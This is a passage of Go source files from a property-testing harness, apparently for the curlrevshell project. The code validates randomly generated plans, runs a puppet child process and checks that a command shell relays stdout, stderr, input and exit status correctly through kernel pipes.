	case famGoSimple:
		gs = true
		mWrite, mOutput = gsMaxWrite, gsMaxOutput
		if cfg.Win != 0 && (cfg.Win < 65536 || cfg.Win >= 4<<20) {
			return nil, "bad receive buffer"
		}
	default:
		return nil, "unknown family " + cfg.Fam
	}
	sawInGate := false
	for _, it := range items {
		switch {
		case isChild(it.K):
			if exitSeen {
				return nil, "child step after exit"
			}
			switch it.K {
			case "w":
				if it.FD != 1 && it.FD != 2 {
					return nil, "bad fd"
				}
				if it.N < 0 || it.N > mWrite {
					return nil, "bad write size"
				}
				if p.closed[it.FD] {
					return nil, "write after close"
				}
				p.out[it.FD] += it.N
				written += it.N
			case "close":
				if it.FD != 1 && it.FD != 2 {
					return nil, "bad fd"
				}
				if p.closed[it.FD] {
					return nil, "closed twice"
				}
				p.closed[it.FD] = true
			case "wdrain":
				if it.FD != 1 && it.FD != 2 {
					return nil, "bad fd"
				}
				if p.closed[it.FD] {
					return nil, "wdrain after close"
				}
				p.wdrains[it.FD]++
				if p.out[it.FD] > copyChunk {
					p.wdrainDeep = true
				}
			case "eof":
				if gs {
					// the input is a response body: it ends only with the
					// request, that is after the command's output has ended
					return nil, "eof step in the GoSimple family"
				}
				if eofSeen {
					return nil, "two eof steps"
				}
				eofSeen, p.hasEOF = true, true
			case "cwait":
				if it.N <= 0 || it.N > written {
					return nil, "cwait beyond what was written"
				}
				p.hasCwait = true
			case "kill":
				if it.Sig != int(syscall.SIGKILL) && it.Sig != int(syscall.SIGTERM) {
					return nil, "bad signal"
				}
				exitSeen = true
				p.killSig = it.Sig
			case "exit":
				if it.Code < 0 || it.Code > 125 || it.Code == codeEPIPE || it.Code == codeBad {
					return nil, "bad exit code"
				}
				exitSeen = true
				p.exitCode = it.Code
			}
			p.child = append(p.child, it)
		case isInput(it.K):
			if gs && (it.K == "inz" || it.K == "indataeof") {
				return nil, "input reader modes in the GoSimple family"
			}
			if it.K == "in" {
				if it.N < 1 || it.N > maxChunk {
					return nil, "bad input chunk"
				}
				p.inTotal += it.N
				if sawInGate {
					p.unblocker = true
				}
			} else if it.K == "inz" {
				p.zeroRds++
			} else if it.K == "indataeof" {
				p.dataEOF = true
				continue // a mode, not a step of the input sequence
			} else {
				if it.G != "child_exited" {
					return nil, "bad input gate"
				}
				p.inGate = true
				sawInGate = true
			}
			p.input = append(p.input, it)
		case isCons(it.K):
			switch it.K {
			case "rgate":
				if it.G != "reaped" && it.G != "go_returned" && it.G != "input_done" {
					return nil, "bad consumer gate"
				}
				p.gates[it.G]++
			case "read":
				if it.N < 1 || it.N > mOutput || it.Sz < 1 || it.Sz > maxChunk {
					return nil, "bad read item"
				}
				if it.N/it.Sz > maxReads {
					return nil, "too many reads"
				}
			case "readx":
				if it.Sz < 1 || it.Sz > maxChunk || it.N < 0 || it.N > maxPauseUS {
					return nil, "bad readx item"
				}
				if it.G != "" && (it.G != "wblock" || it.N < 1) {
					return nil, "bad readx mode"
				}
				p.hasReadx = true
			case "nap":
				if it.N < 1 || it.N > maxNapMS {
					return nil, "bad nap"
				}
				p.napMS += it.N
			case "drain":
				if drainSeen {
					return nil, "two drain items"
				}
				drainSeen = true
				if it.Sz < 1 || it.Sz > maxChunk {
					return nil, "bad drain size"
				}
				p.drain = it.Sz
			}
			p.cons = append(p.cons, it)
		default:
			return nil, "unknown item kind " + it.K
		}
	}
	total := p.out[1] + p.out[2]
	if total > mOutput {
		return nil, "too much output"
	}
	if p.napMS > maxNapMS {
		return nil, "naps too long"
	}
	if gs && !p.unblocker {
		// os/exec's Wait does not return while its copy of the input is
		// blocked reading; with a response body as input the only thing that
		// ends that read before the request is over is more input, which then
		// cannot be written to the dead command.  Without it the stream
		// could rightly stay open for ever.
		return nil, "GoSimple family without input after the child's exit"
	}
	if total/p.drain > maxDrainRd {
		return nil, "drain too slow for this much output"
	}
	// --- rules that keep the three parties' waits free of cycles ---
	// The child waits for the input only through an eof step; an input gate
	// on the child's exit would then wait for the child.
	if p.inGate && p.hasEOF {
		return nil, "input gated on child exit while child waits for input eof"
	}
	nGates := len(p.gates)
	// Input larger than a pipe buffer only moves while the child reads it;
	// allow it only when nobody else waits for anything.
	if p.inTotal > pipeSafe {
		if !(p.hasEOF && nGates == 0 && !p.inGate) || p.inTotal > maxInBig {
			return nil, "input too large for this plan"
		}
	}
	if p.gates["input_done"] > 0 && !p.hasEOF {
		// without an eof step the child may exit first and the input
		// reader is then never asked for its end
		return nil, "input_done gate without eof step"
	}
	if p.gates["go_returned"] > 0 && (total != 0 || p.hasCwait) {
		// Go cannot return while relayed output is unread
		return nil, "go_returned gate with output"
	}
	if p.gates["reaped"] > 0 && p.hasCwait {
		return nil, "reaped gate while child waits for consumer"
	}
	// Every consumer gate is looked at with the consumer standing still at
	// its position pos (bytes read so far): what the gate waits for must be
	// able to happen without the consumer reading any further.
	eofAt := len(p.child)
	for i, st := range p.child {
		if st.K == "eof" {
			eofAt = i
		}
	}
	pos := 0
	exitedSeen := false // the consumer has seen the child exited
	for _, it := range p.cons {
		switch it.K {
		case "read":
			pos += it.N
		case "readx":
			// reading on until the child has exited cannot block anybody;
			// afterwards the child has done all its steps
			exitedSeen = true
		case "nap":
			if exitedSeen && it.N >= longNapMS {
				p.napReaped = true
			}
		case "rgate":
			if exitedSeen && it.G != "input_done" {
				break // the child has nothing left to do that could be blocked
			}
			switch it.G {
			case "reaped":
				exitedSeen = true
				// the child must be able to finish all its steps
				if !p.childCanReach(len(p.child), pos) {
					return nil, "reaped gate with more outstanding output than a pipe surely holds"
				}
				// While the consumer does not read, a relay can be expected
				// to take at most one chunk per descriptor out of the kernel
				// pipe.  (Only speed depends on this: a wdrain gives up after
				// its soft cap.)
				if (p.wdrains[1] > 0 || p.wdrains[2] > 0) &&
					(pos > 0 || p.wdrains[1] > 1 || p.wdrains[2] > 1 || p.wdrainDeep) {
					return nil, "wdrain that a waiting consumer could block"
				}
			case "input_done":
				// the input must be able to end: either it fits into the
				// stdin pipe whatever the child does, or the child gets to
				// its eof step (and then reads it) on its own
				if !p.inputFits() && !(p.childCanReach(eofAt, pos) && !p.wdrainBefore(eofAt)) {
					return nil, "input_done gate: input neither fits the stdin pipe nor is the child sure to read it"
				}
			}
		}
	}
	return p, ""
}

// pipeSlots: a kernel pipe has 16 page slots; a write of n bytes takes up to
// ceil(n/4096) of them, however little is in them (only a write's remainder
// is merged into the last page, and only if it fits).  One slot is kept spare.
const (
	pipePage  = 4096
	pipeSlots = 15
)

func slotsOf(n int) int { return (n + pipePage - 1) / pipePage }

// suffixFits: can the last l bytes of a sequence of writes surely sit in one
// kernel pipe at the same time?
func suffixFits(ws []int, l int) bool {
	if l > pipeSafe {
		return false
	}
	slots := 0
	for i := len(ws) - 1; i >= 0 && l > 0; i-- {
		n := ws[i]
		if n == 0 {
			continue
		}
		if n <= l {
			slots += slotsOf(n)
			l -= n
		} else {
			slots += slotsOf(l) + 1 // a partly consumed write: its pages are not aligned
			l = 0
		}
	}
	return slots <= pipeSlots
}

// childCanReach: with the consumer standing still after pos bytes, can the
// child complete its steps [0,upto) under a correct shell?  Its writes must
// fit into the kernel pipes (per descriptor: whatever of them the consumer
// cannot have taken yet), and it must not wait for the consumer.
func (p *plan) childCanReach(upto, pos int) bool {
	var ws [3][]int
	var sum [3]int
	for _, st := range p.child[:upto] {
		switch st.K {
		case "w":
			ws[st.FD] = append(ws[st.FD], st.N)
			sum[st.FD] += st.N
		case "cwait":
			if st.N > pos {
				return false
			}
		}
	}
	rest := sum[1] + sum[2] - pos
	if rest < 0 {
		rest = 0
	}
	for fd := 1; fd <= 2; fd++ {
		if !suffixFits(ws[fd], min(sum[fd], rest)) {
			return false
		}
	}
	return true
}

func (p *plan) wdrainBefore(upto int) bool {
	for _, st := range p.child[:upto] {
		if st.K == "wdrain" {
			return true
		}
	}
	return false
}

// inputFits: can the whole input be written into the stdin pipe of a child
// that does not read?  (A chunk above 32 KiB may reach the pipe in two
// writes: exec copies through a 32 KiB buffer.)
func (p *plan) inputFits() bool {
	if p.inTotal > pipeSafe {
		return false
	}
	slots := 0
	for _, it := range p.input {
		if it.K == "in" {
			slots += slotsOf(it.N)
			if it.N > copyChunk {
				slots++
			}
		}
	}
	return slots <= pipeSlots-1
}

// childSteps reports whether the plan's last child write is a large one that
// is immediately followed by exit.
func (p *plan) largeLastWrite() bool {
	for i := len(p.child) - 1; i >= 0; i-- {
		switch p.child[i].K {
		case "exit", "kill":
			continue
		case "w":
			return p.child[i].N > pipeBuf
		default:
			return false
		}
	}
	return false
}

func (p *plan) nonTrivial() bool {
	return p.cfg.Fam != "" || p.hasReadx || len(p.gates) > 0 || p.inGate || p.hasCwait || p.wdrains[1]+p.wdrains[2] > 0 || p.exitCode != 0 || p.killSig != 0 ||
		p.out[1]+p.out[2]+p.inTotal > 4096
}

func (p *plan) describe() []string {
	out := make([]string, 0, len(p.items)+1)
	if p.cfg.Fam != "" {
		b, _ := json.Marshal(p.cfg)
		out = append(out, "config "+string(b))
	}
	for i, it := range p.items {
		out = append(out, fmt.Sprintf("plan[%d] %s", i, it))
	}
	return out
}

// outByte is byte i of descriptor fd's pattern: stdout uses only 'a'..'z',
// stderr only 'A'..'Z', so the merged stream splits unambiguously.
func outByte(fd int, i int) byte {
	if fd == 1 {
		return 'a' + byte(i%26)
	}
	return 'A' + byte(i%26)
}

// inByte is byte i of the input pattern (all 256 values occur).
func inByte(i int) byte { return byte(i*167 + (i>>8)*13 + 5) }
