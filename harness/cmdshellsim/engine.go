package cmdshellsim

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/magisterquis/curlrevshell/verifharness/simkit"
)

// Engine is the C14 engine (real processes, puppet child, gated consumer).
type Engine struct{}

// Name implements simkit.Engine.
func (Engine) Name() string { return "cmdshellsim" }

const (
	prop = "C14"
	// stuckCapFull is the generous cap of the "stream-ends" clause;
	// candidates of the minimiser are judged with the short one (the
	// finding itself was established with the full cap, and so is a replay).
	stuckCapFull  = 30 * time.Second
	stuckCapShort = 3 * time.Second
	minimiseRuns  = 5 // a minimiser candidate must fail this many times in a row
	replayTries   = 5
	confirmRuns   = 4 // extra runs of a generated plan that showed a violation
	// intermittent marks a violation that the same plan did not show on
	// every one of its runs; its replay needs luck (and gets more tries).
	intermittent     = " (intermittent under this plan)"
	replayTriesFlaky = 60
	// plans whose consumer naps in real time for a second or more are
	// repeated less often (a run takes seconds; what they show does not
	// depend on luck but on the clock)
	minimiseRunsSlow = 2
	confirmRunsSlow  = 2
)

var dirSeq atomic.Int64

// Run implements simkit.Engine.
func (Engine) Run(t *testing.T, job *simkit.Job, rng *simkit.RNG, idx int64, c *simkit.Case) *simkit.Outcome {
	var items []Item
	cfg := Config{V: 1}
	if c != nil {
		if len(c.Config) > 0 {
			if err := json.Unmarshal(c.Config, &cfg); err != nil {
				return &simkit.Outcome{HarnessErr: "bad config: " + err.Error()}
			}
		}
		for _, raw := range c.Actions {
			var it Item
			if err := json.Unmarshal(raw, &it); err != nil {
				return &simkit.Outcome{HarnessErr: "bad action: " + err.Error()}
			}
			items = append(items, it)
		}
	} else {
		cfg, items = generate(rng, idx)
	}
	cb, _ := json.Marshal(cfg)
	cs := &simkit.Case{Config: cb}
	parts := []string{string(cb)}
	for _, it := range items {
		b, _ := json.Marshal(it)
		cs.Actions = append(cs.Actions, b)
		parts = append(parts, string(b))
	}
	o := &simkit.Outcome{Case: cs, Hash: simkit.Hash64(parts...),
		Faults: map[string]int64{}, Probes: map[string]int64{}}
	pl, why := newPlan(cfg, items)
	if pl == nil {
		if c == nil {
			o.HarnessErr = "generator produced an invalid plan: " + why
			return o
		}
		o.Invalid = true
		o.Trace = []string{"invalid: " + why}
		return o
	}
	o.NonTrivial = pl.nonTrivial()

	// how often, and how patiently
	runs, needAll, capD, target := 1, false, stuckCapFull, ""
	if c != nil {
		switch job.Mode {
		case "replay":
			runs = replayTries
			var rp simkit.Replay
			if job.Replay != "" && simkit.LoadJSON(job.Replay, &rp) == nil {
				target = rp.Invariant
				if strings.HasSuffix(rp.Signature, intermittent) {
					runs = replayTriesFlaky
				}
			}
		default: // a candidate of the minimiser
			runs, needAll, capD = minimiseRuns, true, stuckCapShort
			if pl.napMS >= longNapMS {
				runs = minimiseRunsSlow
			}
		}
	}
	confirm := confirmRuns
	if pl.napMS >= longNapMS {
		confirm = confirmRunsSlow
	}
	var (
		common map[string]bool
		lastV  []simkit.Found
		lastTr []string

		lastStuck bool
	)
	for i := 0; i < runs; i++ {
		ob, err := runOnce(job, pl, capD)
		o.Steps++
		simkit.Heartbeat.Add(1)
		if err != "" {
			o.HarnessErr = err
			return o
		}
		vs, facts, herr := judge(pl, ob)
		if herr != "" {
			o.HarnessErr = herr
			o.Trace = append(pl.describe(), facts...)
			return o
		}
		if ob.res != nil && ob.res.Forced > 0 {
			o.Probes["puppet_gate_given_up"]++ // a soft-capped child gate ran out (slow, never wrong)
		}
		countObserved(pl, ob, o)
		lastV, lastTr, lastStuck = vs, facts, ob.stuck != ""
		if needAll {
			cur := map[string]bool{}
			for _, v := range vs {
				cur[v.Invariant] = true
			}
			if common == nil {
				common = cur
			} else {
				for k := range common {
					if !cur[k] {
						delete(common, k)
					}
				}
			}
			if len(common) == 0 {
				break
			}
			if ob.stuck != "" {
				break // a stuck run is not a matter of luck; do not repeat it
			}
			continue
		}
		hit := false
		for _, v := range vs {
			if target == "" || v.Invariant == target {
				hit = true
			}
		}
		if hit {
			break
		}
	}
	if c == nil && len(lastV) > 0 && !lastStuck {
		// Is this plan a reliable witness?  Run it again; what does not
		// recur every time is reported under its own signature, so that a
		// lucky hit does not take the place of a plan that fails every time.
		recur := map[string]int{}
		for i := 0; i < confirm; i++ {
			ob, err := runOnce(job, pl, capD)
			o.Steps++
			simkit.Heartbeat.Add(1)
			if err != "" {
				o.HarnessErr = err
				return o
			}
			vs, _, herr := judge(pl, ob)
			if herr != "" {
				o.HarnessErr = herr
				return o
			}
			seen := map[string]bool{}
			for _, v := range vs {
				seen[v.Invariant+"|"+v.Signature] = true
			}
			for k := range seen {
				recur[k]++
			}
		}
		for i := range lastV {
			if recur[lastV[i].Invariant+"|"+lastV[i].Signature] < confirm {
				lastV[i].Signature += intermittent
			}
		}
	}
	if needAll {
		kept := lastV[:0:0]
		for _, v := range lastV {
			if common[v.Invariant] {
				kept = append(kept, v)
			}
		}
		lastV = kept
	}
	o.Violations = lastV
	o.Trace = append(pl.describe(), lastTr...)
	countPlan(pl, o)
	return o
}

func runOnce(job *simkit.Job, pl *plan, capD time.Duration) (*observed, string) {
	base := job.Scratch
	if base == "" {
		base = os.TempDir()
	}
	dir := filepath.Join(base, fmt.Sprintf("c14-%d-%d", os.Getpid(), dirSeq.Add(1)))
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return nil, "scratch: " + err.Error()
	}
	defer os.RemoveAll(dir)
	ob := runPlan(pl, dir, capD)
	return ob, ob.harnessErr
}

// countObserved counts what a run of the GoSimple family showed of the state
// its plan aims at (these depend on the schedule; they are evidence, nothing
// is judged by them).
func countObserved(pl *plan, ob *observed, o *simkit.Outcome) {
	if ob.wblockHits > 0 {
		o.Probes["consumer_read_on_child_blocked"]++
	}
	if !ob.gs {
		return
	}
	switch ob.proto {
	case 2:
		o.Probes["gosimple_http2"]++
	case 1:
		o.Probes["gosimple_http1"]++
	}
	if ob.extraReqs > 0 {
		o.Probes["gosimple_extra_requests"]++
	}
	if ob.pokes > 0 && pl.napMS == 0 {
		// the stream had not ended a quarter of a second after the planned
		// input was out although the consumer was not napping
		o.Probes["gosimple_extra_input_sent"]++
	}
	if ob.napBehind > 0 {
		// the consumer stood still in real time with output outstanding
		o.Faults["consumer_behind_during_nap"]++
		// ... and more of it than the C2 side can have taken off the wire:
		// the rest was still on the shell's side of the connection
		win := pl.cfg.Win
		if win == 0 {
			win = 1 << 20
		}
		if ob.napBehind > int64(win)+4096 {
			o.Faults["backlog_beyond_c2_window_during_nap"]++
		}
	}
}

// countPlan fills Faults and Probes.  Everything here follows from the plan
// and from gates that were passed, so it is the same on every run of a tree
// on which the property holds.
func countPlan(pl *plan, o *simkit.Outcome) {
	if pl.cfg.Fam == famNoStart {
		countPlanNoStart(pl, o)
		return
	}
	total := pl.out[1] + pl.out[2]
	pos, first := 0, true
	for _, it := range pl.cons {
		switch it.K {
		case "read":
			pos += it.N
			first = false
		case "rgate":
			switch it.G {
			case "reaped":
				o.Probes["consumer_after_reap"]++
				if first {
					o.Faults["exit_before_read"]++
				} else if pos < total {
					o.Probes["reap_gate_mid_stream"]++
				}
			case "go_returned":
				o.Probes["consumer_after_go_returned"]++
				if first {
					o.Faults["exit_before_read"]++
				}
			case "input_done":
				o.Probes["consumer_after_input_done"]++
			}
		}
	}
	if pl.exitCode != 0 {
		o.Faults["exit_nonzero"]++
	}
	if pl.killSig != 0 {
		o.Faults["exit_by_signal"]++
	}
	if pl.dataEOF && pl.inTotal > 0 {
		o.Probes["input_data_with_eof"]++
	}
	if pl.zeroRds > 0 {
		o.Probes["input_zero_reads"]++
	}
	if pl.largeLastWrite() {
		o.Faults["large_last_write"]++
	}
	if pl.closed[1] || pl.closed[2] {
		o.Faults["early_close_fd"]++
	}
	if pl.inGate {
		o.Faults["exit_before_input_eof"]++
	}
	if pl.out[1] > pipeBuf || pl.out[2] > pipeBuf {
		o.Probes["over_pipe_buffer"]++
	}
	if total == 0 {
		o.Probes["zero_output"]++
	}
	if pl.out[1] == 0 && pl.out[2] > 0 {
		o.Probes["stderr_only"]++
	}
	if pl.out[1] > 0 && pl.out[2] > 0 {
		o.Probes["both_descriptors"]++
	}
	if pl.hasCwait {
		o.Probes["child_waits_for_consumer"]++
	}
	if pl.wdrains[1]+pl.wdrains[2] > 0 {
		o.Probes["write_after_pipe_drained"]++
	}
	if pl.hasEOF {
		o.Probes["child_reads_input_to_eof"]++
	}
	if pl.drain == 1 {
		o.Probes["one_byte_reader"]++
	}
	if pl.hasReadx {
		o.Probes["consumer_paced_until_exit"]++
	}
	if pl.cfg.Fam == famGoSimple {
		o.Probes["gosimple_runs"]++
		if pl.napReaped {
			// real time: the consumer does nothing for 1.5-2.5 s after it
			// has seen the child exited
			o.Faults["gosimple_real_nap_after_exit"]++
		}
		if pl.cfg.Win != 0 {
			o.Probes["gosimple_small_c2_window"]++
		}
		if pl.cfg.FPre {
			o.Probes["gosimple_fp_prefixed"]++
		}
	} else if pl.napMS > 0 {
		o.Probes["direct_real_nap"]++
	}
}

// judge is the oracle.  It looks only at facts that do not depend on the
// schedule: what had been read when the stream ended, what the child says it
// wrote and read, and what Go returned.
func judge(pl *plan, ob *observed) (vs []simkit.Found, facts []string, harnessErr string) {
	add := func(inv, sig, msg string) {
		vs = append(vs, simkit.Found{Property: prop, Invariant: inv, Signature: sig, Message: msg})
	}
	fact := func(f string, a ...any) { facts = append(facts, fmt.Sprintf(f, a...)) }
	if ob.stuck != "" {
		if ob.stuckFound == nil {
			return nil, []string{"stuck"}, "stuck without verdict: " + ob.stuck
		}
		vs = append(vs, *ob.stuckFound)
		fact("stuck: %s / %s", ob.stuckFound.Invariant, ob.stuckFound.Signature)
		return vs, facts, ""
	}
	if pl.cfg.Fam == famNoStart {
		return judgeNoStart(pl, ob)
	}
	if ob.res == nil {
		return nil, []string{"no puppet result"}, fmt.Sprintf("the puppet left no result file (Go returned %v)", ob.goErr)
	}
	res := ob.res
	if res.Code == codeBad {
		return nil, nil, "the puppet could not execute its plan"
	}
	fact("end of stream: seen")
	// --- output-complete-before-eof ---
	names := [3]string{"", "stdout", "stderr"}
	if res.Epipe != 0 {
		add("output-complete-before-eof", names[res.Epipe]+" closed while the command was writing",
			fmt.Sprintf("a write of the command to %s failed after %d of %d bytes: the shell closed its end of the pipe while the command was running",
				names[res.Epipe], res.W[res.Epipe], pl.out[res.Epipe]))
		fact("%s: write failed", names[res.Epipe])
	} else if res.W[1] != pl.out[1] || res.W[2] != pl.out[2] {
		return nil, facts, fmt.Sprintf("puppet wrote %v, plan says %v", res.W, pl.out)
	}
	corrupt := ob.foreign
	for fd := 1; fd <= 2; fd++ {
		want := res.W[fd]
		switch {
		case ob.bad[fd] || ob.n[fd] > want:
			corrupt = true
			fact("%s: wrong bytes", names[fd])
		case ob.n[fd] < want:
			add("output-complete-before-eof", names[fd]+" truncated",
				fmt.Sprintf("the output stream ended after %d of the %d bytes the command wrote to %s (planned consumer gates: %v)%s",
					ob.n[fd], want, names[fd], gateList(pl), famNote(pl)))
			fact("%s: truncated", names[fd])
		default:
			fact("%s: complete", names[fd])
		}
	}
	if corrupt {
		add("output-complete-before-eof", "corrupted or reordered",
			fmt.Sprintf("the relayed stream is not the per-descriptor patterns: stdout %d/%d bytes (deviates: %v), stderr %d/%d bytes (deviates: %v), foreign bytes: %v",
				ob.n[1], res.W[1], ob.bad[1], ob.n[2], res.W[2], ob.bad[2], ob.foreign))
	}
	// --- exit status ---
	switch {
	case res.Sig != 0 && ob.goErr == nil:
		add("exit-status-reported", "death by signal reported as success",
			fmt.Sprintf("the command was killed by signal %d but Go returned nil", res.Sig))
		fact("go: nil although killed by a signal")
	case res.Sig != 0:
		fact("go: error, killed by a signal")
	case res.Code != 0 && ob.goErr == nil:
		add("exit-status-reported", "nonzero exit reported as success",
			fmt.Sprintf("the command exited with status %d but Go returned nil", res.Code))
		fact("go: nil although exit status nonzero")
	case res.Code == 0 && ob.goErr != nil && len(vs) > 0:
		// Output was lost or damaged on the way (reported above): the I/O
		// did not complete successfully, and an error is then what Go owes
		// its caller, not a spurious one.
		fact("go: error, exit status 0, output not intact")
	case res.Code == 0 && ob.goErr != nil:
		add("spurious-error", "error returned although the command exited 0",
			fmt.Sprintf("the command exited with status 0 and the consumer read the stream to its end, but Go returned: %v", ob.goErr))
		fact("go: error although exit status 0")
	case res.Code != 0:
		fact("go: error, exit status nonzero")
	default:
		fact("go: nil, exit status 0")
	}
	// --- input ---
	if pl.hasEOF && res.InRead {
		switch {
		case res.InN < pl.inTotal:
			add("input-intact", "input truncated",
				fmt.Sprintf("the command read %d bytes up to end of input, %d were sent", res.InN, pl.inTotal))
			fact("input: truncated")
		case res.InN > pl.inTotal:
			add("input-intact", "input extended",
				fmt.Sprintf("the command read %d bytes up to end of input, %d were sent", res.InN, pl.inTotal))
			fact("input: extended")
		case res.InSHA != inputDigest(pl.inTotal):
			add("input-intact", "input corrupted",
				fmt.Sprintf("the %d bytes the command read differ from the %d bytes sent", res.InN, pl.inTotal))
			fact("input: corrupted")
		default:
			fact("input: intact")
		}
	}
	return vs, facts, ""
}

// famNote says, for a run of the GoSimple family, where the stream was read.
func famNote(pl *plan) string {
	if pl.cfg.Fam != famGoSimple {
		return ""
	}
	nap := ""
	if pl.napMS > 0 {
		nap = fmt.Sprintf("; the consumer stood still for %d ms of real time", pl.napMS)
	}
	return " [run through simpleshell.GoSimple: the stream is the request body as the worker's C2 side read it" + nap + "]"
}

func gateList(pl *plan) []string {
	var out []string
	for _, it := range pl.cons {
		if it.K == "rgate" {
			out = append(out, it.G)
		}
	}
	return out
}
