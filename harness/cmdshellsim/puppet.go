package cmdshellsim

import (
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"os"
	"os/signal"
	"path/filepath"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

// puppetEnv carries the puppet's plan.  When it is set this process is not a
// worker but the wrapped command of one run.
const puppetEnv = "VERIF_PUPPET"

// puppetArg carries the plan as the only argument instead: GoSimple builds the
// command itself and offers no way to set its environment.
const puppetArg = "-verif-puppet="

// cwaitSoftCap: a child waiting for the consumer gives up after this long
// and carries on; the gate is a scheduling device, the oracle does not
// depend on it.
const cwaitSoftCap = 2 * time.Second

// markFree: a descriptor's first this-many bytes fit into any pipe, so writing
// them cannot block.
const markFree = 4096

type puppetPlan struct {
	Dir   string `json:"dir"`
	Steps []Item `json:"steps"`
}

// puppetResult is the side file the puppet leaves behind before exiting.
type puppetResult struct {
	W      [3]int `json:"w"`      // bytes successfully written per descriptor
	Epipe  int    `json:"epipe"`  // descriptor on which a write failed (0: none)
	InRead bool   `json:"inread"` // stdin was read to EOF
	InN    int    `json:"in_n"`
	InSHA  string `json:"in_sha"`
	Forced int    `json:"forced"` // cwait gates given up on
	Code   int    `json:"code"`   // exit status about to be used
	Sig    int    `json:"sig"`    // signal the puppet is about to die by (0: none)
}

func init() {
	if s := os.Getenv(puppetEnv); s != "" {
		os.Exit(runPuppet(s))
	}
	if len(os.Args) == 2 && strings.HasPrefix(os.Args[1], puppetArg) {
		os.Exit(runPuppet(os.Args[1][len(puppetArg):]))
	}
}

func writeFileAtomic(path string, b []byte) error {
	tmp := path + ".tmp"
	if err := os.WriteFile(tmp, b, 0o644); err != nil {
		return err
	}
	return os.Rename(tmp, path)
}

func touch(path string) { _ = os.WriteFile(path, nil, 0o644) }

func exists(path string) bool {
	_, err := os.Lstat(path)
	return err == nil
}

func runPuppet(s string) int {
	signal.Ignore(syscall.SIGPIPE)
	var pp puppetPlan
	if err := json.Unmarshal([]byte(s), &pp); err != nil {
		return codeBad
	}
	if err := writeFileAtomic(filepath.Join(pp.Dir, "pid"), []byte(fmt.Sprint(os.Getpid()))); err != nil {
		return codeBad
	}
	var (
		res  puppetResult
		off  [3]int
		code = 0
	)
steps:
	for i, st := range pp.Steps {
		// a marker says "step i has begun"; steps that can never block
		// (small writes early on a descriptor) go without one so that
		// consecutive small writes stay back to back
		if st.K != "w" || off[st.FD]+st.N > markFree {
			touch(filepath.Join(pp.Dir, fmt.Sprintf("s%d", i)))
		}
		switch st.K {
		case "w":
			buf := make([]byte, st.N)
			for j := range buf {
				buf[j] = outByte(st.FD, off[st.FD]+j)
			}
			for len(buf) > 0 {
				n, err := syscall.Write(st.FD, buf)
				if n > 0 {
					buf = buf[n:]
					off[st.FD] += n
					res.W[st.FD] += n
				}
				if err == syscall.EINTR || err == syscall.EAGAIN {
					continue
				}
				if err != nil {
					res.Epipe = st.FD
					code = codeEPIPE
					break steps
				}
			}
		case "close":
			_ = syscall.Close(st.FD)
		case "eof":
			h := sha256.New()
			buf := make([]byte, 32768)
			for {
				n, err := syscall.Read(0, buf)
				if n > 0 {
					h.Write(buf[:n])
					res.InN += n
				}
				if err == syscall.EINTR || err == syscall.EAGAIN {
					continue
				}
				if err != nil || n == 0 {
					break
				}
			}
			res.InRead = true
			res.InSHA = hex.EncodeToString(h.Sum(nil))
		case "wdrain":
			// wait until the reader has taken everything written so far
			// out of the kernel pipe (observed state, soft cap)
			start := time.Now()
			for k := 0; ; k++ {
				n, err := unix.IoctlGetInt(st.FD, unix.TIOCINQ)
				if err != nil || n == 0 {
					break
				}
				if time.Since(start) > cwaitSoftCap {
					res.Forced++
					break
				}
				if k < 50 {
					time.Sleep(50 * time.Microsecond)
				} else {
					time.Sleep(time.Millisecond)
				}
			}
		case "cwait":
			gate := filepath.Join(pp.Dir, fmt.Sprintf("g%d", i))
			start := time.Now()
			for k := 0; !exists(gate); k++ {
				if time.Since(start) > cwaitSoftCap {
					res.Forced++
					break
				}
				if k < 50 {
					time.Sleep(100 * time.Microsecond)
				} else {
					time.Sleep(time.Millisecond)
				}
			}
		case "exit":
			code = st.Code
			break steps
		case "kill":
			res.Sig = st.Sig
			break steps
		}
	}
	res.Code = code
	b, _ := json.Marshal(&res)
	if err := writeFileAtomic(filepath.Join(pp.Dir, "result"), b); err != nil {
		return codeBad
	}
	// last action: everything this process will ever write has been written
	touch(filepath.Join(pp.Dir, "exiting"))
	if res.Sig != 0 {
		// end by signal; should the signal have been inherited as ignored,
		// SIGKILL does it
		_ = syscall.Kill(os.Getpid(), syscall.Signal(res.Sig))
		time.Sleep(2 * time.Second)
		_ = syscall.Kill(os.Getpid(), syscall.SIGKILL)
		time.Sleep(time.Hour)
	}
	return code
}
