package cmdshellsim

import "github.com/magisterquis/curlrevshell/verifharness/simkit"

var (
	smallSizes = []int{0, 1, 2, 25, 26, 27, 100, 1000, 4095, 4096, 4097, 20000, 32767, 32768, 32769, 50000, 60000}
	bigSizes   = []int{65535, 65536, 65537, 70000, 98304, 131072, 131073, 200000, 262145}
	readSizes  = []int{1, 2, 7, 64, 512, 4096, 32768, 65536}
	exitCodes  = []int{1, 2, 3, 7, 42, 125}
)

func pick(rng *simkit.RNG, xs []int) int { return xs[rng.Intn(len(xs))] }

// split cuts total into 1..4 write sizes.
func split(rng *simkit.RNG, total int) []int {
	if total == 0 {
		if rng.Chance(1, 2) {
			return nil
		}
		return []int{0}
	}
	k := rng.Range(1, 4)
	var out []int
	rest := total
	for i := 1; i < k && rest > 1; i++ {
		n := rng.Range(1, rest-1)
		if rng.Chance(1, 3) { // a small head, a large tail
			n = rng.Range(1, min(rest-1, 100))
		}
		out = append(out, n)
		rest -= n
	}
	return append(out, rest)
}

// writes interleaves the pieces of both descriptors at random.
func writes(rng *simkit.RNG, t1, t2 int) []Item {
	a, b := split(rng, t1), split(rng, t2)
	var out []Item
	for len(a) > 0 || len(b) > 0 {
		if len(b) == 0 || (len(a) > 0 && rng.Chance(1, 2)) {
			out = append(out, Item{K: "w", FD: 1, N: a[0]})
			a = a[1:]
		} else {
			out = append(out, Item{K: "w", FD: 2, N: b[0]})
			b = b[1:]
		}
	}
	return out
}

func inputChunks(rng *simkit.RNG, total int) []Item {
	var out []Item
	for total > 0 {
		n := rng.Range(1, min(total, maxChunk))
		if rng.Chance(1, 3) {
			n = min(total, pick(rng, []int{1, 2, 100, 4096, 32768, 65536}))
		}
		out = append(out, Item{K: "in", N: n})
		total -= n
	}
	return out
}

// reads builds consumer read items covering at most upTo bytes.
func reads(rng *simkit.RNG, upTo int) (items []Item, covered int) {
